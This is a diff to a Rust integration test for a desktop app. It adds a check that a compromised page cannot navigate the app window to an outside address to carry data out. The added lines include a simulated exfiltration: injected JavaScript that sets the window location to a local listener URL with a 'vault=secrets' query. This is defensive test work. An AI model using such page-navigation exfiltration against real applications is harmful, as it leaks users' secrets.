@@ -291,6 +291,7 @@ fn scheduled_audits_notify_on_the_desktop() {
 
 /// A sync waiting on a provider that never answers can be cancelled from the window, and what
 /// it says names the connector (issue 18: Sync stayed disabled for minutes with no way out).
+/// And the page, as a compromised one would, cannot navigate the window away to carry data out.
 #[test]
 fn a_sync_can_be_cancelled_in_the_window() {
     let Some(driver) = prerequisites() else { return };
@@ -341,4 +342,12 @@ fn a_sync_can_be_cancelled_in_the_window() {
         .query_row("SELECT error FROM sync_runs ORDER BY id DESC LIMIT 1", [], |r| r.get::<_, String>(0))
         .unwrap();
     assert!(runs.starts_with("cancelled by the user"), "{runs}");
+
+    let outside = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    outside.set_nonblocking(true).unwrap();
+    let away = format!("http://{}/carried-out?vault=secrets", outside.local_addr().unwrap());
+    let _ = app.execute(&format!("window.location.href = {away:?};"));
+    std::thread::sleep(Duration::from_secs(2));
+    assert!(outside.accept().is_err(), "the window navigated away from the app");
+    assert!(!app.find_all("[data-testid=sync]").unwrap().is_empty(), "the app is still there");
 }
